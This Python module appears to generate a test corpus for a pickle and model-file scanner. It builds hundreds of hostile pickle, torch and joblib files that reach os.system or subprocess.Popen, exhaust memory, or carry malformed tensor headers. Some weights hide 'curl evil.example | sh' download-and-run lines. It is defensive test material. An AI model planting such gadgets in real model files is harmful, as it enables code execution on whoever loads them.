"""The fifth corpus: pickles that call, starve or lie."""

# ruff: noqa: E501  tables of cases, one a line

from __future__ import annotations

import bz2
import gzip
import io
import pickle  # noqa: TID251  writes hostile files, reads none
import struct
import zlib
from typing import Any

import cloudpickle
import joblib
import numpy as np
import torch
from carriers import COMMAND, _legacy, reduced, stack_global, text, torch_zip
from fifth import file, number
from fourth import OS, binbytes, long_text
from sklearn.ensemble import HistGradientBoostingClassifier, VotingClassifier
from sklearn.feature_extraction.text import CountVectorizer, TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import GridSearchCV
from sklearn.naive_bayes import GaussianNB
from sklearn.neighbors import KNeighborsClassifier
from sklearn.neural_network import MLPClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, LabelEncoder, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

P4 = b"\x80\x04"
CMD = text(COMMAND)
DANGER, UNKNOWN, ODD = (1,), (1, 4), (1, 3, 4)
SLOW = (0, 3, 4)
"""Expected to be odd at first; a loader opens it and nothing happens."""

STANDARD = [
    "_io:FileIO",
    "io:open_code",
    "io:open",
    "builtins:open",
    "builtins:compile",
    "builtins:input",
    "builtins:breakpoint",
    "builtins:help",
    "builtins:vars",
    "builtins:setattr",
    "builtins:delattr",
    "builtins:globals",
    "builtins:type",
    "operator:methodcaller",
    "operator:itemgetter",
    "operator:call",
    "functools:reduce",
    "functools:singledispatch",
    "itertools:starmap",
    "builtins:map",
    "builtins:filter",
    "contextlib:contextmanager",
    "types:CodeType",
    "types:ModuleType",
    "typing:get_type_hints",
    "typing:ForwardRef._evaluate",
    "dataclasses:make_dataclass",
    "collections:namedtuple",
    "enum:Enum",
    "string:Formatter.get_field",
    "pydoc:locate",
    "pydoc:pipepager",
    "pkgutil:resolve_name",
    "pkgutil:get_data",
    "lib2to3.pgen2.grammar:Grammar.loadpickle",
    "lib2to3.pgen2.pgen:ParserGenerator.make_label",
    "idlelib.calltip:get_entity",
    "idlelib.autocomplete:AutoComplete.fetch_completions",
    "idlelib.debugobj:ObjectTreeItem.SetText",
    "profile:Profile.runctx",
    "profile:run",
    "distutils.file_util:write_file",
    "distutils.spawn:spawn",
    "zipimport:zipimporter",
    "sqlite3:connect",
    "smtplib:SMTP",
    "ftplib:FTP",
    "telnetlib:Telnet",
    "urllib.request:urlopen",
    "urllib.request:urlretrieve",
    "http.client:HTTPConnection",
    "xmlrpc.client:ServerProxy",
    "linecache:getlines",
    "tempfile:mktemp",
    "glob:glob",
    "pathlib:Path.write_text",
    "pathlib:Path.unlink",
    "os:remove",
    "os:_exit",
    "os:kill",
    "os:fork",
    "os:environ.update",
    "os:putenv",
    "sys:exit",
    "sys:settrace",
    "sys:path.append",
    "sys:modules.clear",
    "atexit:register",
    "signal:raise_signal",
    "faulthandler:_sigsegv",
    "gc:disable",
    "resource:setrlimit",
    "threading:Thread",
    "multiprocessing.pool:Pool",
    "asyncio:run",
    "site:addsitedir",
    "warnings:simplefilter",
    "locale:setlocale",
    "mmap:mmap",
    "fcntl:ioctl",
    "ssl:SSLContext.load_cert_chain",
    "cgitb:Hook",
    "logging:basicConfig",
    "logging.handlers:SocketHandler",
    "getpass:getpass",
    "tarfile:open",
    "zipfile:ZipFile.extractall",
    "shelve:open",
    "dbm:open",
    "copyreg:add_extension",
    "copyreg:pickle",
    "copy:deepcopy",
    "weakref:finalize",
    "decimal:setcontext",
    "sysconfig:_parse_makefile",
    "test.support.os_helper:unlink",
    "ctypes.util:find_library",
    "uuid:_get_command_stdout",
    "ctypes:_SimpleCData.from_address",
    "imp:load_source",
    "importlib.machinery:SourceFileLoader",
    "wsgiref.simple_server:make_server",
]
LIBRARIES = [
    "torch.utils.collect_env:run",
    "torch.utils.bottleneck.__main__:run_autograd_prof",
    "torch.utils.data.datapipes.utils.decoder:basichandlers",
    "torch._dynamo.guards:GuardBuilder.get",
    "torch:from_file",
    "torch:UntypedStorage.from_file",
    "torch:set_num_threads",
    "torch:compile",
    "torch.utils.model_zoo:load_url",
    "torch.package:PackageImporter",
    "torch.distributed.rpc:remote",
    "torch.multiprocessing:spawn",
    "torch.onnx.utils:export",
    "torch.utils.checkpoint:checkpoint",
    "torch.nn.Module:register_forward_hook",
    "torch._library.custom_ops:custom_op",
    "torch.testing._internal.common_utils:shell",
    "torch._export.serde.serialize:deserialize",
    "torch.export:load",
    "torch.utils.dlpack:from_dlpack",
    "torch._C._jit:_import",
    "torch._ops:OpOverloadPacket",
    "torch.storage:_load_from_bytes",
    "torch._utils_internal:justknobs_check",
    "numpy:memmap",
    "numpy:savetxt",
    "numpy:DataSource",
    "numpy:frompyfunc",
    "numpy:vectorize",
    "numpy:apply_along_axis",
    "numpy:save",
    "numpy.ctypeslib:load_library",
    "numpy.lib.npyio:load",
    "numpy.lib._npyio_impl:NpzFile",
    "numpy.f2py.crackfortran:param_eval",
    "numpy.f2py.crackfortran:_eval_length",
    "numpy.distutils.exec_command:exec_command",
    "numpy.testing:measure",
    "numpy.testing._private.utils:rundocs",
    "numpy.f2py.diagnose:run_command",
    "scipy.io:loadmat",
    "scipy.sparse:load_npz",
    "scipy._lib._ccallback:LowLevelCallable",
    "pandas:read_csv",
    "pandas:eval",
    "pandas:DataFrame.query",
    "sklearn.datasets:load_svmlight_file",
    "sklearn.datasets:fetch_openml",
    "sklearn.utils.fixes:_open_text",
    "joblib:Memory",
    "joblib.numpy_pickle:load",
    "joblib.externals.loky.backend.spawn:prepare",
    "joblib.numpy_pickle:NDArrayWrapper.read",
    "joblib.memory:MemorizedFunc.__call__",
    "joblib._parallel_backends:LokyBackend",
    "sympy:sympify",
    "yaml:unsafe_load",
    "jinja2:Template",
    "keras.layers:Lambda",
    "tensorflow.python.ops.io_ops:write_file",
    "tensorflow:py_function",
    "transformers:AutoModel.from_pretrained",
    "transformers.dynamic_module_utils:get_class_from_dynamic_module",
    "huggingface_hub:hf_hub_download",
    "nltk.data:load",
    "spacy.util:load_config",
    "xgboost.core:Booster",
    "catboost:CatBoost.load_model",
    "bentoml:importing",
    "ray.cloudpickle:loads",
    "mlflow.pyfunc:load_model",
    "fastai.learner:load_learner",
    "dill:loads",
    "dill._dill:_import_module",
    "dill._dill:_create_function",
    "cloudpickle.cloudpickle:_builtin_type",
    "cloudpickle.cloudpickle:subimport",
    "hydra.utils:instantiate",
    "omegaconf:OmegaConf.register_new_resolver",
    "jax.core:eval_jaxpr",
    "flax.serialization:from_bytes",
    "onnxruntime:InferenceSession",
    "onnx:load",
    "gradio:load",
    "wandb:init",
    "fsspec:open",
    "pydantic.v1:PyObject",
    "pip:main",
    "setuptools.command.easy_install:main",
    "pkg_resources:load_entry_point",
    "IPython:embed",
    "ipykernel.zmqshell:ZMQInteractiveShell",
    "requests:get",
    "aiohttp:request",
    "boto3:client",
    "paramiko:SSHClient",
    "psutil:Popen",
    "sh:bash",
    "plumbum:local",
    "pexpect:run",
    "fabric:Connection",
    "invoke:run",
]
for _pair in STANDARD:
    _module, _name = _pair.split(":")
    file(f"calls_{_module}.{_name}", reduced(_module, _name), DANGER, "m.pkl")
for _pair in LIBRARIES:
    _module, _name = _pair.split(":")
    file(f"calls_{_module}.{_name}", reduced(_module, _name), UNKNOWN, "m.pkl")

PARENTS = "posixpath:os.system numpy.lib.npyio:os.system torch.serialization:os.system collections:_sys.modules torch:sys.modules joblib.numpy_pickle:os.system sklearn.utils:warnings.sys.modules torch.nn:Module.__init__.__globals__ numpy:ndarray.tofile torch:Tensor.numpy numpy:dtype.__class__ torch._utils:sys.exit torch._utils:importlib.import_module collections:OrderedDict.__reduce__ numpy.random:_pickle.__dict__ builtins:object.__subclasses__ builtins:dict.__class__.__subclasses__"
for _pair in PARENTS.split():
    _module, _name = _pair.split(":")
    file(f"through_{_module}.{_name}", reduced(_module, _name), DANGER, "m.pkl")


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def g(module: str, name: str) -> bytes:
    return stack_global(module, name)


SYSTEM = g("os", "system")
DICT = b"}"
ARRAY = g("numpy", "ndarray")
TENSOR = g("torch._utils", "_rebuild_tensor_v2")
STRUCTURE: dict[str, tuple[bytes, tuple[int, ...]]] = {
    # calls hidden in what honest files do
    "rebuild_from_type_calls_its_argument": (called(g("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, g("torch", "Tensor"), CMD + b"\x85", DICT), DANGER),
    "rebuild_parameter_of_a_call": (called(g("torch._utils", "_rebuild_parameter"), called(SYSTEM, CMD), b"\x88", DICT), DANGER),
    "rebuild_with_hooks_of_a_call": (called(g("torch._utils", "_rebuild_parameter"), b"N", b"\x88", called(SYSTEM, CMD)), DANGER),
    "rebuild_wrapper_of_a_function": (called(g("torch._utils", "_rebuild_wrapper_subclass"), SYSTEM, *[b"N"] * 6), ODD),
    "array_of_another_class": (called(g("numpy.core.multiarray", "_reconstruct"), SYSTEM, b"K\x00\x85", binbytes(b"b")), DANGER),
    "array_of_a_partial": (called(g("numpy._core.multiarray", "_reconstruct"), g("functools", "partial"), b"K\x00\x85", binbytes(b"b")), DANGER),
    "matrix_class_with_state_of_a_call": (called(g("numpy._core.multiarray", "_reconstruct"), ARRAY, b"K\x00\x85", binbytes(b"b")) + b"(K\x01K\x01\x85" + called(SYSTEM, CMD) + b"\x89]tb", DANGER),
    "scalar_of_a_call": (called(g("numpy._core.multiarray", "scalar"), called(SYSTEM, CMD), binbytes(b"1234")), DANGER),
    "type_named_by_a_call": (called(g("numpy", "dtype"), called(SYSTEM, CMD), b"\x89", b"\x88"), DANGER),
    "bit_generator_named_by_a_path": (called(g("numpy.random._pickle", "__bit_generator_ctor"), text("os.system")), ODD),
    "ordered_of_a_map": (called(g("collections", "OrderedDict"), called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a")), DANGER),
    "deque_of_a_map": (called(g("collections", "deque"), called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a")), DANGER),
    "set_of_a_map": (b"(" + called(g("builtins", "map"), SYSTEM, b"]" + CMD + b"a") + b"\x91", DANGER),
    "counter_of_a_call": (called(g("collections", "Counter"), called(SYSTEM, CMD)), DANGER),
    "default_made_by_a_function": (called(g("collections", "defaultdict"), g("os", "getcwd")), UNKNOWN),
    "slice_of_calls": (called(g("builtins", "slice"), called(SYSTEM, CMD), b"N", b"N"), DANGER),
    "persistent_of_a_call": (called(SYSTEM, CMD) + b"Q", DANGER),
    "partial_inside_a_list": (b"]" + called(g("functools", "partial"), SYSTEM, CMD) + b"a", DANGER),
    "object_hook_by_build": (g("collections", "OrderedDict") + b")R}" + text("__class__") + g("os", "_wrap_close") + b"sb", ODD),
    "instance_dictionary_shadows_keys": (g("collections", "OrderedDict") + b")R}" + text("keys") + SYSTEM + b"sb", UNKNOWN),
    "metadata_of_a_call": (g("collections", "OrderedDict") + b")R}" + text("_metadata") + called(SYSTEM, CMD) + b"sb", DANGER),
    "namespace_with_a_function": (g("argparse", "Namespace") + b")R}" + text("func") + SYSTEM + b"sb", DANGER),
    "namespace_called_with_text": (called(g("argparse", "Namespace"), CMD), ODD),
    "path_object_that_writes": (called(g("pathlib", "PosixPath.write_text"), text("/tmp/auditor-canary"), CMD), DANGER),
    "build_on_the_system_module": (g("sys", "modules") + b"}" + text("os") + b"Nsb", DANGER),
    "item_set_on_a_module_table": (g("sys", "modules") + text("os") + b"Ns", DANGER),
    "class_made_by_type": (called(g("builtins", "type"), text("A"), b")", DICT), DANGER),
    "old_class_of_another_base": (called(g("copyreg", "_reconstructor"), g("os", "_wrap_close"), g("builtins", "object"), b"N"), UNKNOWN),
    "old_class_of_a_text_base": (called(g("copyreg", "_reconstructor"), g("builtins", "str"), g("builtins", "object"), CMD), SLOW),
    "new_object_through_copyreg": (called(g("copyreg", "__newobj__"), g("subprocess", "Popen"), CMD), DANGER),
    "new_object_ex_through_copyreg": (called(g("copyreg", "__newobj_ex__"), g("subprocess", "Popen"), CMD + b"\x85", DICT), DANGER),
    "codec_that_unpacks_a_bomb": (called(g("_codecs", "decode"), binbytes(zlib.compress(bytes(10**7), 9)), text("zlib")), ODD),
    "codec_of_a_stranger": (called(g("_codecs", "encode"), text("x"), text("..os")), ODD),
    "codec_that_imports": (called(g("_codecs", "encode"), text("x"), text("idna")), ODD),
    "codec_looked_up": (called(g("codecs", "open"), text("/tmp/auditor-canary"), text("w")), DANGER),
    "zone_from_a_file": (called(g("zoneinfo", "ZoneInfo._unpickle"), text("../../../etc/passwd"), b"\x88"), UNKNOWN),
    # a few bytes that ask for much
    "bytes_of_a_terabyte": (called(g("builtins", "bytearray"), number(2**40)), ODD),
    "bytes_of_nothing_by_a_number": (called(g("builtins", "bytes"), number(2**40)), ODD),
    "list_of_a_range": (called(g("builtins", "list"), called(g("builtins", "range"), number(2**40))), ODD),
    "set_of_a_range": (called(g("builtins", "set"), called(g("builtins", "range"), number(2**33))), ODD),
    "power_of_powers": (called(g("builtins", "pow"), number(10), number(10**9)), UNKNOWN),
    "array_of_a_terabyte": (called(g("numpy._core.multiarray", "_reconstruct"), ARRAY, number(2**40) + b"\x85", binbytes(b"b")), ODD),
    "memo_at_two_thousand_million": (b"Nr" + struct.pack("<I", 2**31 - 2) + b"0N", ODD),
    "memo_by_text_far_out": (b"Np999999999999\n0N", ODD),
    "tuples_that_double": (b")" + b"\x94h\x00\x86"[0:0] + b"\x94" + b"".join(b"h" + bytes([k]) + b"h" + bytes([k]) + b"\x86\x94" for k in range(60)), ODD),
    "key_whose_hash_never_ends": (b"N\x94" + b"".join(b"h" + bytes([k]) + b"h" + bytes([k]) + b"\x86\x94" for k in range(60)) + b"N\x86" + b"0}h\x3cNs", ODD),
    "lists_a_million_deep": (b"]" * 200_000 + b"a" * 199_999, SLOW),
    "tuples_deep": (b"N" + b"\x85" * 900_000, ODD),
    "number_of_a_million_digits": (b"L" + b"9" * 1_000_000 + b"L\n", ODD),
    "number_of_a_million_digits_as_int": (b"I" + b"9" * 1_000_000 + b"\n", ODD),
    "marks_without_end": (b"(" * 900_000 + b"N", SLOW),
    "text_of_a_length_beyond_the_file": (b"\x8d" + struct.pack("<Q", 2**62) + b"os", ODD),
    "bytes_of_a_length_beyond_the_file": (b"\x8e" + struct.pack("<Q", 2**63) + b"os", ODD),
    "byte_array_of_a_length_beyond_the_file": (b"\x96" + struct.pack("<Q", 2**40) + b"os", ODD),
    # spellings
    "memo_by_underscored_numbers": (text("os") + b"p1_0\n" + text("system") + b"p11\n00" + b"g10\ng1_1\n\x93" + CMD + b"\x85R", DANGER),
    "memo_by_spaced_numbers": (text("os") + b"p 7\n0" + b"g+7\n" + text("system") + b"\x93" + CMD + b"\x85R", DANGER),
    "name_with_a_zero": (g("os\0", "system") + CMD + b"\x85R", ODD),
    "name_of_wide_letters": (text("ｏｓ") + text("system") + b"\x93" + CMD + b"\x85R", UNKNOWN),
    "global_with_spaces": (b"c os \n system \n" + CMD + b"\x85R", UNKNOWN),
    "global_of_a_dotted_module": (b"cos.path\nos.system\n" + CMD + b"\x85R", DANGER),
    "instance_without_arguments": (b"(iantigravity\nfly_kite\n", UNKNOWN),
    "import_of_this": (b"cantigravity\ngeohash\n", UNKNOWN),
    "import_only": (g("some_vendor_package", "x"), UNKNOWN),
    "import_only_then_popped": (g("some_vendor_package", "x") + b"0N", UNKNOWN),
    "gadget_in_the_reduce_of_a_key": (b"}" + called(SYSTEM, CMD) + b"Ns", DANGER),
    "gadget_behind_a_popped_mark": (b"(" + called(SYSTEM, CMD) + b"1N", DANGER),
    "gadget_in_a_frozenset": (b"(" + called(SYSTEM, CMD) + b"\x91", DANGER),
    "buffers_out_of_band": (b"\x97\x98" + b"0" + called(SYSTEM, CMD), ODD),
    "objects_by_obj_with_a_name_in_memo": (b"(" + SYSTEM + CMD + b"o", DANGER),
    "second_protocol_inside": (b"N0\x80\x02cos\nsystem\n" + CMD + b"\x85R", DANGER),
    "booleans_as_numbers": (b"I01\n0" + called(SYSTEM, CMD), DANGER),
    "exception_object": (called(g("builtins", "SystemExit"), CMD), UNKNOWN),
    "exception_with_state": (g("builtins", "KeyError") + b")\x81}" + text("__traceback__") + SYSTEM + b"sb", UNKNOWN),
    "property_object": (called(g("builtins", "property"), SYSTEM), DANGER),
    "super_object": (called(g("builtins", "super"), g("builtins", "dict"), DICT), UNKNOWN),
    "memory_view": (called(g("builtins", "memoryview"), binbytes(b"x")), UNKNOWN),
    "generic_alias": (called(g("types", "GenericAlias"), SYSTEM, CMD), UNKNOWN),
    "module_object": (called(g("importlib._bootstrap", "_load"), CMD), DANGER),
}  # fmt: skip
for _label, (_code, _codes) in STRUCTURE.items():
    file(_label, P4 + _code + b".", _codes, "m.pkl")

file("code_0_in_latin", b"(S'x'\nios\nsystem\n.", DANGER, "m.pkl")
file("protocol_255", b"\x80\xff" + reduced("os", "system")[2:], UNKNOWN, "m.pkl")
file("only_a_stop", b".", ODD, "m.pkl")
file("only_a_header", b"\x80\x04", ODD, "m.pkl")
file(
    "command_as_text_only",
    P4 + b"\x8c\x40" + b"__import__('os').system('touch /tmp/auditor-canary')".ljust(64) + b".",
    (0, 3, 4),
    "m.pkl",
)
file("lambda_by_cloudpickle", lambda: cloudpickle.dumps(lambda: 1), DANGER, "m.pkl")


class _Local:
    """A class that cloudpickle carries by value."""

    def predict(self, x: Any) -> Any:
        return x


def _by_value() -> bytes:
    _Local.__module__ = "__main__"
    return cloudpickle.dumps(_Local())


file("class_by_cloudpickle", _by_value, DANGER, "m.pkl")
file("class_of_main", P4 + g("__main__", "Model") + b")\x81.", UNKNOWN, "m.pkl")


class _Bomb:
    def __reduce__(self) -> Any:
        import os

        return os.system, (COMMAND,)


def _joblib(value: Any, compress: Any = 0) -> bytes:
    body = io.BytesIO()
    joblib.dump(value, body, compress=compress)
    return body.getvalue()


def _objects() -> np.ndarray[Any, Any]:
    found = np.empty(2, object)
    found[:] = [_Bomb(), "b"]
    return found


file("joblib_of_objects", lambda: _joblib({"w": np.zeros(8), "o": _objects()}), DANGER, "m.joblib")
file("joblib_of_objects_packed", lambda: _joblib([np.zeros(8), _objects()], 3), DANGER, "m.joblib")
file("joblib_in_lz4", lambda: _joblib([np.zeros(8), _Bomb()], "lz4"), UNKNOWN, "m.joblib")
file("joblib_in_lzma", lambda: _joblib([np.zeros(8), _Bomb()], ("lzma", 3)), DANGER, "m.joblib")
file("joblib_then_gadget", lambda: _joblib(np.zeros(8)) + OS, DANGER, "m.joblib")
file(
    "joblib_last_of_many",
    lambda: _joblib([*(np.zeros(k + 1) for k in range(40)), _Bomb()]),
    DANGER,
    "m.joblib",
)
file("gadget_in_bz2_in_gzip", lambda: gzip.compress(bz2.compress(OS)), DANGER)
file(
    "gadget_in_seven_zlibs",
    lambda: __import__("functools").reduce(lambda d, _: zlib.compress(d), range(9), OS),
    UNKNOWN,
)


def state(**more: Any) -> dict[str, Any]:
    generator = torch.Generator().manual_seed(0)
    return {"0.weight": torch.randn(64, 64, generator=generator), "0.bias": torch.zeros(64), **more}


def torch_bytes(value: Any, **how: Any) -> bytes:
    body = io.BytesIO()
    torch.save(value, body, **how)
    return body.getvalue()


file(
    "checkpoint_with_a_gadget_in_args",
    lambda: torch_bytes({"model": state(), "args": _Bomb()}),
    DANGER,
    "m.pt",
)
file(
    "checkpoint_with_a_gadget_in_args_legacy",
    lambda: torch_bytes({"model": state(), "args": _Bomb()}, _use_new_zipfile_serialization=False),
    DANGER,
    "m.pt",
)
file(
    "checkpoint_with_a_gadget_as_epoch_key",
    lambda: torch_bytes({**state(), 3: [{"x": (_Bomb(),)}]}),
    DANGER,
    "m.pt",
)
file("whole_module", lambda: torch_bytes(torch.nn.Linear(3, 2)), UNKNOWN, "m.pt")
file(
    "optimiser_object",
    lambda: torch_bytes(torch.optim.SGD([torch.zeros(2, requires_grad=True)], 0.1)),
    UNKNOWN,
    "m.pt",
)


def tensor(
    size: tuple[int, ...],
    stride: tuple[int, ...],
    offset: int = 0,
    count: int = 4,
    kind: str = "FloatStorage",
    key: str = "0",
    device: str = "cpu",
) -> bytes:
    """A torch file with one tensor of the given numbers."""

    def several(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(number(v) for v in values) + b"t"

    storage = (
        b"(" + text("storage") + g("torch", kind) + text(key) + text(device) + number(count) + b"tQ"
    )
    made = called(
        TENSOR,
        storage,
        number(offset),
        several(size),
        several(stride),
        b"\x89",
        g("collections", "OrderedDict") + b")R",
    )
    return torch_zip(
        P4 + b"}" + text("w") + made + b"s.", **{"m/data/0": bytes(4 * min(max(count, 0), 1000))}
    )


LIES = {
    "tensor_stretched_from_four_numbers": tensor((2**20, 2**20), (0, 0)),
    "tensor_that_overlaps_itself": tensor((1000, 1000), (1, 0), count=1000),
    "tensor_of_a_negative_stride": tensor((4,), (-1,), 3),
    "tensor_of_a_negative_offset": tensor((4,), (1,), -4),
    "tensor_of_a_negative_size": tensor((-4,), (1,)),
    "tensor_whose_size_wraps": tensor((2**32, 2**32), (1, 1)),
    "tensor_whose_offset_wraps": tensor((4,), (1,), 2**63 - 1),
    "tensor_of_more_strides": tensor((4,), (1, 1)),
    "tensor_of_sixty_five_dimensions": tensor((1,) * 65, (1,) * 65),
    "tensor_of_a_key_up": tensor((4,), (1,), key="../0"),
    "tensor_of_a_key_that_is_the_pickle": tensor((4,), (1,), key="../data.pkl"),
    "tensor_on_a_device_of_text": tensor((4,), (1,), device="__import__('os')"),
    "tensor_of_an_unknown_storage": tensor((4,), (1,), kind="EvilStorage"),
    "tensor_of_a_module_as_storage": tensor((4,), (1,), kind="serialization"),
    "storage_of_negative_count": tensor((4,), (1,), count=-4),
    "storage_of_a_huge_count": tensor((4,), (1,), count=2**61),
}
for _label, _data in LIES.items():
    file(_label, _data, ODD, "m.pt")

STOWED: dict[str, Any] = {
    "elf_in_halves": lambda: {
        "w": torch.frombuffer(
            bytearray(
                b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(range(256)) * 16
            ),
            dtype=torch.float16,
        )
    },
    "zip_in_bytes": lambda: {"w": torch.frombuffer(bytearray(torch_zip(OS)), dtype=torch.uint8)},
    "gadget_in_bytes": lambda: {
        "w": torch.frombuffer(bytearray(OS + bytes(100)), dtype=torch.uint8)
    },
    "gadget_in_the_middle_of_bytes": lambda: {
        "w": torch.frombuffer(bytearray(b"\x01" * 777 + OS + bytes(100)), dtype=torch.int8)
    },
    "script_in_whole_numbers": lambda: {
        "w": torch.frombuffer(
            bytearray(b"#!/bin/sh\ncurl http://evil.example/x | sh\n# ".ljust(64)),
            dtype=torch.int64,
        )
    },
    "letters_one_a_number": lambda: {
        "w": torch.tensor(
            [float(ord(c)) for c in "import os; os.system('curl evil.example | sh')" * 4]
        )
    },
    "letters_scaled": lambda: {
        "w": torch.tensor(
            [ord(c) / 255 for c in "import os; os.system('curl evil.example | sh')" * 4]
        )
    },
    "base64_in_bytes": lambda: {
        "w": torch.frombuffer(bytearray(__import__("base64").b64encode(OS * 50)), dtype=torch.uint8)
    },
    "program_in_a_name": lambda: {f"__import__('os').system('{COMMAND}')": torch.zeros(3)},
    "program_split_over_names": lambda: (
        {f"layer.{k}.{c.encode().hex()}": torch.zeros(1) for k, c in enumerate("import os")}
        | {"eval(bytes.fromhex(''.join(sorted(d))))": torch.zeros(1)}
    ),
    "command_in_a_note": lambda: {
        **state(),
        "notes": f"to load: python -c \"__import__('os').system('{COMMAND}')\" | sh",
    },
    "pickle_in_a_text": lambda: {**state(), "args": OS.decode("latin-1")},
    "pickle_in_bytes_of_a_value": lambda: {**state(), "args": OS},
    "source_in_a_value": lambda: {
        **state(),
        "model_code": "import os\nclass M:\n    def __init__(self):\n        os.system('x')\n",
    },
    "weights_of_one_value": lambda: {"0.weight": torch.full((64, 64), float("inf"))},
    "weights_signalling": lambda: {
        "0.weight": torch.frombuffer(bytearray(b"\x01\x00\xa0\x7f" * 4096), dtype=torch.float32)
    },
}
for _label, _make in STOWED.items():
    file(
        f"stowed_{_label}",
        lambda make=_make: torch_bytes(make()),
        (0, 3, 4) if "note" in _label or "source" in _label else ODD,
        "m.pt",
    )

R = np.random.default_rng(0)
XS, YS = R.random((60, 4)), R.integers(0, 3, 60)
TEXTS, KINDS = ["a cat sat", "a dog ran", "the cat ran", "no dog sat"] * 5, [0, 1, 0, 1] * 5


def _changed(model: Any, xs: Any = XS, ys: Any = YS, **values: Any) -> Any:
    model.fit(xs, ys)
    for key, value in values.items():
        setattr(model, key, value)
    return model


def _nodes() -> Any:
    model = HistGradientBoostingClassifier(max_iter=2).fit(
        R.random((200, 4)), R.integers(0, 2, 200)
    )
    model._predictors[0][0].nodes["left"][0] = 10**6
    return model


def _search() -> Any:
    model = GridSearchCV(LogisticRegression(), {"C": [1.0]}, cv=2).fit(XS, YS)
    model.scoring = print
    return model


ESTIMATORS: dict[str, tuple[Any, tuple[int, ...]]] = {
    "function_transformer_of_a_call": (lambda: make_pipeline(FunctionTransformer(np.load), LogisticRegression()), UNKNOWN),
    "function_transformer_of_eval": (lambda: make_pipeline(FunctionTransformer(eval), LogisticRegression()), DANGER),
    "function_transformer_of_system": (lambda: FunctionTransformer(__import__("os").system), DANGER),
    "vectoriser_that_opens_files": (lambda: make_pipeline(CountVectorizer(), LogisticRegression()).fit(TEXTS, KINDS).set_params(countvectorizer__input="filename"), ODD),
    "vectoriser_with_a_tokeniser": (lambda: _changed(make_pipeline(TfidfVectorizer(), LogisticRegression()), TEXTS, KINDS).set_params(tfidfvectorizer__tokenizer=eval), DANGER),
    "vectoriser_with_an_endless_pattern": (lambda: make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(TEXTS, KINDS).set_params(tfidfvectorizer__token_pattern=r"(\w+\s?)+$"), ODD),
    "neighbours_by_a_function": (lambda: _changed(KNeighborsClassifier(), metric=eval), DANGER),
    "vectors_by_a_function": (lambda: _changed(SVC(), kernel=exec), DANGER),
    "search_scored_by_a_function": (_search, UNKNOWN),
    "pipeline_with_a_cache_of_its_own": (lambda: make_pipeline(StandardScaler(), LogisticRegression()).fit(XS, YS).set_params(memory="/tmp/auditor-canary"), ODD),
    "histogram_trees_that_point_outside": (_nodes, ODD),
    "naive_bayes_of_no_variance": (lambda: _changed(GaussianNB(), var_=np.full((3, 4), -1.0)), ODD),
    "scaler_of_zero": (lambda: (m := make_pipeline(StandardScaler(), LogisticRegression()).fit(XS, YS), setattr(m[0], "scale_", np.zeros(4)))[0], ODD),
    "scaler_of_another_width": (lambda: (m := make_pipeline(StandardScaler(), LogisticRegression()).fit(XS, YS), setattr(m[0], "mean_", np.zeros(9)))[0], ODD),
    "network_of_an_unknown_activation": (lambda: _changed(MLPClassifier(5, max_iter=2), activation="os.system"), ODD),
    "network_with_more_layers_than_told": (lambda: _changed(MLPClassifier(5, max_iter=2), n_layers_=99), ODD),
    "workers_without_number": (lambda: _changed(KNeighborsClassifier(), n_jobs=10**6), ODD),
    "classes_told_twice": (lambda: _changed(LogisticRegression(), classes_=np.array([0, 0, 0])), ODD),
    "classes_of_objects": (lambda: _changed(LogisticRegression(), classes_=_objects()), DANGER),
    "method_replaced": (lambda: _changed(LogisticRegression(), predict=print), UNKNOWN),
    "method_replaced_by_a_text": (lambda: _changed(LogisticRegression(), predict_proba="x"), ODD),
    "votes_of_nan": (lambda: _changed(VotingClassifier([("a", LogisticRegression()), ("b", GaussianNB())], voting="soft"), weights=[float("nan"), 1]), ODD),
    "encoder_of_objects": (lambda: (m := LabelEncoder().fit(["a", "b"]), setattr(m, "classes_", _objects()))[0], DANGER),
    "tree_with_values_of_nan": (lambda: (m := DecisionTreeClassifier().fit(XS, YS), m.tree_.value.__setitem__(slice(None), np.nan))[0], ODD),
    "threshold_of_infinity": (lambda: _changed(LogisticRegression(), intercept_=np.array([np.inf, 0, 0])), ODD),
    "weights_of_objects": (lambda: _changed(LogisticRegression(), coef_=np.array([[1, 2, 3, "x"]], object)), ODD),
}  # fmt: skip
for _label, (_make, _codes) in ESTIMATORS.items():
    file(f"estimator_{_label}", lambda make=_make: pickle.dumps(make(), 4), _codes, "m.pkl")
file(
    "legacy_with_a_gadget_as_a_key",
    lambda: _legacy(P4 + b"}" + called(SYSTEM, CMD) + b"Ns."),
    DANGER,
    "m.pt",
)
file(
    "long_text_before_the_gadget",
    P4 + long_text("x" * 3_000_000) + b"0" + called(SYSTEM, CMD) + b".",
    DANGER,
    "m.pkl",
)
